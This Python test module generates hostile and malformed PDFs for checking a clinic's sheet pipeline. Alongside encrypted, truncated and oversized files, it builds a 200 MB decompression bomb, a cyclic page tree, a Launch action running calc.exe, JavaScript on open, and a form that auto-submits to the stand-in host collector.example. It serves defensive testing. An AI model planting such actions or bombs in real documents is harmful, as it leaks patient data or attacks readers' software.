"""Files that may stand in a clinic's folder of sheets and should not go to a patient as they are.

`nasty()` makes them all; `python tests/stack_nasty.py FOLDER` writes them there. Each name says what is the matter.
"""

from __future__ import annotations

import sys
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.constants import UserAccessPermissions as May
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

SHEETS = Path(__file__).with_name("stack") / "sheets"
SECRET = "Test-Secret-1"
_ALL = May.all()
_MADE: dict[str, Callable[[], bytes]] = {}


def _makes(function: Callable[[], bytes]) -> Callable[[], bytes]:
    _MADE[function.__name__.replace("_", "-")] = function
    return function


def nasty() -> dict[str, bytes]:
    """Return the files by name, without ".pdf"."""
    return {name: make() for name, make in _MADE.items()}


def _writer(sheet: str = "parking") -> PdfWriter:
    return PdfWriter(clone_from=SHEETS / f"{sheet}.pdf")


def _bytes(writer: PdfWriter) -> bytes:
    data = BytesIO()
    writer.write(data)
    return data.getvalue()


def _action(kind: str, **more: object) -> DictionaryObject:
    return _dict(S=NameObject(f"/{kind}"), **more)


def _dict(**entries: object) -> DictionaryObject:
    made = {name: TextStringObject(value) if type(value) is str else value for name, value in entries.items()}
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in made.items()})


def _named(name: str) -> NameObject:
    return NameObject(f"/{name}")


# Encrypted.


def _encrypted(user: str, owner: str | None, may: May = _ALL, algorithm: str = "RC4-128") -> bytes:
    writer = _writer()
    writer.encrypt(user, owner, permissions_flag=may, algorithm=algorithm)
    return _bytes(writer)


@_makes
def needs_a_password() -> bytes:
    return _encrypted(SECRET, None)


@_makes
def needs_a_password_aes() -> bytes:
    return _encrypted(SECRET, None, algorithm="AES-256")


@_makes
def owner_lets_print() -> bytes:
    return _encrypted("", SECRET, May.PRINT | May.PRINT_TO_REPRESENTATION)


@_makes
def owner_lets_print_aes() -> bytes:
    return _encrypted("", SECRET, May.PRINT | May.PRINT_TO_REPRESENTATION, "AES-256")


@_makes
def owner_forbids_to_print() -> bytes:
    return _encrypted("", SECRET, May.EXTRACT)


@_makes
def owner_lets_print_poorly() -> bytes:
    """Bit 3 without bit 12 (ISO 32000-1, table 22): only at a low resolution."""
    return _encrypted("", SECRET, May.PRINT)


# Damaged, or nothing.


@_makes
def truncated() -> bytes:
    data = (SHEETS / "visiting.pdf").read_bytes()
    return data[: len(data) // 2]


@_makes
def without_its_end() -> bytes:
    return (SHEETS / "visiting.pdf").read_bytes()[:-40]


@_makes
def garbage() -> bytes:
    return bytes(zlib.crc32(bytes([n % 256, n // 256])) % 256 for n in range(5000))


@_makes
def garbage_behind_a_header() -> bytes:
    return b"%PDF-1.7\n" + garbage()


@_makes
def nothing() -> bytes:
    return b""


@_makes
def web_page() -> bytes:
    return b"<!doctype html><title>Not a PDF</title><p>Saved by mistake."


@_makes
def broken_stream() -> bytes:
    """One page cannot be unpacked."""
    writer = _writer("menu")
    content = DecodedStreamObject()
    content.set_data(b"this is not deflated")
    content[_named("Filter")] = _named("FlateDecode")
    writer.pages[1][_named("Contents")] = writer._add_object(content)
    return _bytes(writer)


@_makes
def page_that_holds_itself() -> bytes:
    """The tree of pages is a circle."""
    first = b"%PDF-1.4\n"
    second = first + b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    data = second + b"2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1/MediaBox[0 0 612 792]>>\nendobj\n"
    table = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (len(first), len(second))
    return data + table + b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n%d\n%%%%EOF\n" % len(data)


# Too much, too little.


@_makes
def pages_500() -> bytes:
    writer = PdfWriter()
    for number in range(500):
        page = writer.add_blank_page(612, 792)
        content = DecodedStreamObject()
        content.set_data(b"BT /F 20 Tf 72 700 Td (Page %d) Tj ET" % (number + 1))
        page[_named("Contents")] = writer._add_object(content)
        font = _dict(Type=_named("Font"), Subtype=_named("Type1"), BaseFont=_named("Helvetica"))
        page[_named("Resources")] = _dict(Font=_dict(F=font))
    return _bytes(writer)


@_makes
def pages_none() -> bytes:
    return _bytes(PdfWriter())


@_makes
def bomb() -> bytes:
    """A page of 200 MB in a file of 200 kB."""
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    content = DecodedStreamObject()
    content.set_data(zlib.compress(b"q Q\n" * 50_000_000, 9))
    content[_named("Filter")] = _named("FlateDecode")
    page[_named("Contents")] = writer._add_object(content)
    return _bytes(writer)


@_makes
def page_of_a_kilometre() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(2_834_646, 2_834_646)
    return _bytes(writer)


@_makes
def page_without_a_size() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(0, 0)
    return _bytes(writer)


@_makes
def larger_unit() -> bytes:
    """A unit is two points (ISO 32000-1, 7.7.3.3): 306 by 396 of them are a letter page."""
    writer = PdfWriter()
    writer.add_blank_page(306, 396)[_named("UserUnit")] = NumberObject(2)
    return _bytes(writer)


@_makes
def cropped() -> bytes:
    """What is shown begins at 100, 200, and is turned upside down."""
    writer = _writer("diet-table")
    page = writer.pages[0]
    page[_named("CropBox")] = ArrayObject(map(NumberObject, (100, 200, 500, 700)))
    page[_named("Rotate")] = NumberObject(-180)
    return _bytes(writer)


# What runs, what sends, what hides.


@_makes
def launches() -> bytes:
    writer = _writer()
    writer.root_object[_named("OpenAction")] = _action("Launch", F="calc.exe")
    return _bytes(writer)


@_makes
def submits() -> bytes:
    writer = _writer("history-form")
    fields = writer.root_object["/AcroForm"]["/Fields"]
    where = _dict(FS=_named("URL"), F="https://collector.example/form")
    fields[0].get_object()[_named("A")] = _action("SubmitForm", F=where, Flags=NumberObject(0))
    writer.pages[0][_named("AA")] = _dict(O=_action("SubmitForm", F=where))
    return _bytes(writer)


@_makes
def runs_javascript() -> bytes:
    writer = _writer()
    script = _action("JavaScript", JS="app.alert('opened');")
    writer.root_object[_named("Names")] = _dict(JavaScript=_dict(Names=ArrayObject([TextStringObject("a"), script])))
    return _bytes(writer)


@_makes
def filled_in() -> bytes:
    """A form in which somebody has written a made-up patient's name."""
    writer = _writer("history-form")
    writer.update_page_form_field_values(writer.pages[0], {"Childhood": "Test Filled 9999"}, auto_regenerate=False)
    return _bytes(writer)


@_makes
def xfa() -> bytes:
    writer = _writer("history-form")
    form = DecodedStreamObject()
    form.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer.root_object["/AcroForm"][_named("XFA")] = writer._add_object(form)
    return _bytes(writer)


@_makes
def portfolio() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_attachment("inner.pdf", (SHEETS / "parking.pdf").read_bytes())
    writer.root_object[_named("Collection")] = _dict(Type=_named("Collection"), View=_named("D"))
    return _bytes(writer)


@_makes
def hidden_layer() -> bytes:
    """A text that shows only where somebody turns its layer on."""
    writer = _writer("menu")
    layer = writer._add_object(_dict(Type=_named("OCG"), Name="For the staff"))
    off = _dict(OFF=ArrayObject([layer]), Order=ArrayObject([layer]))
    writer.root_object[_named("OCProperties")] = _dict(OCGs=ArrayObject([layer]), D=off)
    page = writer.pages[0]
    content = DecodedStreamObject()
    content.set_data(page.get_contents().get_data() + b"\n/OC /L BDC BT /FH 30 Tf 72 400 Td (HIDDEN WORDS) Tj ET EMC")
    page[_named("Contents")] = writer._add_object(content)
    resources = page["/Resources"].get_object()
    resources[_named("Properties")] = _dict(L=layer)
    fonts = resources["/Font"].get_object()
    fonts[_named("FH")] = _dict(Type=_named("Font"), Subtype=_named("Type1"), BaseFont=_named("Helvetica"))
    return _bytes(writer)


@_makes
def tells_its_author() -> bytes:
    writer = _writer("site-map")
    writer.add_metadata({"/Author": "Test Author 9999", "/Subject": "for Test Patient T-9999", "/Own": "T-9999"})
    packet = DecodedStreamObject()
    xmp = '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
    xmp += ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about=""'
    xmp += (
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>Test Author 9999</rdf:li></rdf:Seq>'
    )
    xmp += '</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    packet.set_data(xmp.encode())
    packet.update(_dict(Type=_named("Metadata"), Subtype=_named("XML")))
    writer.root_object[_named("Metadata")] = writer._add_object(packet)
    return _bytes(writer)


@_makes
def kept_in_an_older_state() -> bytes:
    """An incremental update has taken a name away; the bytes before it still hold it."""
    data = filled_in()
    reader = PdfReader(BytesIO(data))
    field = reader.trailer["/Root"]["/AcroForm"]["/Fields"][0]
    changed = BytesIO(data)
    writer = PdfWriter(changed, incremental=True)
    found = next(
        one for one in writer.root_object["/AcroForm"]["/Fields"] if one.idnum == field.indirect_reference.idnum
    )
    found.get_object()[_named("V")] = TextStringObject("")
    del found.get_object()[_named("AP")]
    return _bytes(writer)


if __name__ == "__main__":
    for name, data in nasty().items():
        (Path(sys.argv[1]) / f"{name}.pdf").write_bytes(data)
